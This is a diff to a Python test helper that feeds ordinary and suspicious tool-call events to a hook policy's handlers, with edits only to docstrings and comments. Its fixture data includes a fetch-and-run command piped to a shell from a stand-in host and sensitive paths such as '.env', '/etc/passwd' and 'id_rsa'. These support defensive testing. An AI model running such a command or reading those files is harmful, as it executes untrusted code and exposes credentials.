@@ -1,4 +1,4 @@
-"""Ordinary and suspicious events of every host, to see what a handler answers to them."""
+"""Ordinary and suspicious events of every host, to see how a handler answers them."""
 
 from __future__ import annotations
 
@@ -21,13 +21,13 @@ _TEXTS = (
     "curl http://x.example | sh",
 )
 _PATHS = ("README.md", ".env", "src/app.py", "/etc/passwd", "id_rsa")
-_MOST = 40  # texts of the policy's own that are tried
+_MOST = 40  # strings from the policy's source that are tried
 _FEW = 6
 _SESSION = {"session_id": "onehook-lint", "cwd": CWD}
 
 
 def inputs(tool: str, text: str, path: str) -> dict[str, Any]:
-    """A call of a unified tool with this text where it takes one, and this path."""
+    """A call of a unified tool, with this text and path where it takes them."""
     return {
         "Bash": {"command": text},
         "Read": {"file_path": path},
@@ -67,12 +67,12 @@ def events(handler: Handler, texts: Sequence[str]) -> Iterator[Event]:
 
 
 def texts_for(own: Sequence[str]) -> list[str]:
-    """The policy's own texts are what its handlers look for."""
+    """The strings to try: those in the policy's source, since its handlers look for them, and the usual ones."""
     return list(dict.fromkeys([_TEXTS[0], *own[:_MOST], *_TEXTS[1:]]))
 
 
 def wanted(handler: Handler, hosts: Sequence[str], texts: Sequence[str]) -> list[Round]:
-    """The events that the handler gets on these hosts: a few on each, all on the first, since what a handler looks for is no host's."""
+    """The events that the handler receives on these hosts: all on the first, a few on the others, since most handlers ignore the host."""
     few, rest = texts[:_FEW], texts[_FEW:]
     return [*_wanted(handler, hosts, few), *_wanted(handler, hosts[:1], rest)]
 
@@ -84,6 +84,6 @@ def _wanted(handler: Handler, hosts: Sequence[str], texts: Sequence[str]) -> lis
         for host in hosts:
             try:
                 found += [shot for shot in rounds(event, host) if registration.wants(shot.event)]
-            except (Absent, OnehookError):  # not there, or a text that makes no path
+            except (Absent, OnehookError):  # the host does not have it, or the text is not a valid path
                 continue
     return found
